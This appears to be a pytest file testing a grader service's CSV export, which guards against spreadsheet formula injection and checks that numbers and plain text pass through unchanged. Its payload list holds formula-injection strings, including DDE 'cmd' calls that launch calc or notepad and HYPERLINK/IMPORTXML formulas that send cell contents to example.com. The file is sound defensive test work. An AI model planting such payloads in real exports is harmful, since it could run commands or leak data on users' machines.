"""What spreadsheets get: no text is a formula, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from grader.services.files.csv_text import csv_text, harmless

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    *(f"{start}{rest}" for start in STARTS for rest in ("", "1", "cmd|' /C calc'!A0")),
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "=DDE(0;0;1)",
    "-2+3+cmd|' /C notepad'!'A1'",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+1234567",
    "-ada",
    "=1,2",
    '="a"\n=2',
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_starts_a_formula_when_it_is_read_back(payload: str) -> None:
    (head, row) = read_back(csv_text([payload, "points"], [[payload, Decimal(-5)]]))
    assert head == [f"'{payload}", "points"]
    assert row == [f"'{payload}", "-5"]


@pytest.mark.parametrize("text", ["Ada", "O'Neil", "a=b", " =1", "0012345", 'Zoë, Ada "A"', ""])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert read_back(csv_text(["x", "y"], [[text, "."]]))[1] == [text, "."]


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (Decimal("-2.50"), "-2.5"),
        (Decimal("1E+2"), "100"),
        (Decimal("0.00001"), "0.00001"),
        (Decimal(0), "0"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers(number: Decimal | int | None, written: str) -> None:
    assert read_back(csv_text(["x", "y"], [[number, "."]]))[1] == [written, "."]
